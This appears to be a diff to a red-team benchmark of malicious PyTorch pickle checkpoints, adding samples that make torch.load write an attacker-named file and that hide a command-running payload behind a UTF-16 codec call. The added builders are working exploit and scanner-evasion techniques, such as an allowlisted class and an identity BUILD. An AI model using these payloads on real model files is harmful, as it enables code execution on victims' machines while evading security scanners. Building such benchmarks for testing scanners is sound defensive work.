@@ -16,7 +16,7 @@ import pickle
 from mlsecops.fixtures import torch_state_dict_pickle, torch_zip
 
 from benchmarks.redteam.archives import tar_bytes, v7_tar
-from benchmarks.redteam.pickles import PROTO2, b, call, glob2, system_call, system_pickle
+from benchmarks.redteam.pickles import PROTO2, b, call, glob2, s2, system_call, system_pickle
 from benchmarks.redteam.sample import Sample
 
 F = "torch"
@@ -37,6 +37,30 @@ def legacy_stream(*pickles: bytes) -> bytes:
 
 def load_from_bytes(payload: bytes) -> bytes:
     return PROTO2 + call(glob2("torch.storage", "_load_from_bytes"), b(payload)) + b"."
+
+
+def persid_dump_patches() -> bytes:
+    """Legacy torch.load's persistent_load('module', cls, file, source) writes `<cls.__name__>.patch` when the
+    source differs and `cls.dump_patches` is true. The pickle sets both on argparse.Namespace (allowlisted)
+    with a BUILD whose target is numpy's scalar(dtype('O'), cls): an identity function, so the BUILD is not
+    on an imported global."""
+    identity = glob2("numpy._core.multiarray", "scalar") + b"(" + glob2("numpy", "dtype") + b"(" + s2("O8") + b"\x89\x88tR"
+    cls = glob2("argparse", "Namespace")
+    state = b"(N}(" + s2("__name__") + s2("pwned") + s2("dump_patches") + b"\x88ut"
+    persid = b"(" + s2("module") + cls + s2("argparse.py") + s2("class Namespace: pass") + b"tQ"
+    main = PROTO2 + identity + cls + b"tR" + state + b"b0" + persid + b"."
+    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
+                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
+    return legacy_stream(pickle.dumps(1001, protocol=2), sys_info, main)
+
+
+def utf16_bytes_arg(payload: bytes) -> bytes:
+    """`_codecs.encode(text, 'utf-16-le')`: the bytes exist only after the call (a reader that assumes latin-1,
+    as protocol 2 writes bytes, computes different ones)."""
+    if len(payload) % 2:
+        payload += b"\0"
+    text = payload.decode("utf-16-le")
+    return call(glob2("_codecs", "encode"), s2(text), s2("utf-16-le"))
 
 
 def _t(data: bytes, name: str = "model.pt") -> dict[str, bytes]:
@@ -73,6 +97,15 @@ SAMPLES = [
     Sample("torch_load_from_bytes_zip", F, "torch.load", "process",
            "torch.storage._load_from_bytes on an embedded zip checkpoint with the call in data.pkl",
            lambda: _t(load_from_bytes(_evil_zip()), "model.pkl")),
+    Sample("torch_legacy_persid_dump_patches", F, "torch.load", "file",
+           "a legacy checkpoint's persistent id ('module', cls, file, source) makes torch write <cls.__name__>.patch; "
+           "the pickle renames argparse.Namespace to 'pwned' and sets dump_patches with a BUILD on numpy's "
+           "scalar(dtype('O'), cls), an identity, so no BUILD targets an imported global",
+           lambda: _t(persid_dump_patches()), fast=True),
+    Sample("torch_load_from_bytes_utf16", F, "torch.load", "process",
+           "_load_from_bytes on bytes made by _codecs.encode(text, 'utf-16-le'): the checkpoint is not in the file as bytes",
+           lambda: _t(PROTO2 + call(glob2("torch.storage", "_load_from_bytes"), utf16_bytes_arg(legacy_stream(system_call() + b"."))) + b".",
+                      "model.pkl")),
     Sample("torch_zip_crc_zeroed", F, "torch.load", "process",
            "every CRC-32 zeroed: zipfile-based readers raise, torch (miniz) loads stored members unchecked",
            lambda: _t(_crc_zero(_evil_zip()))),
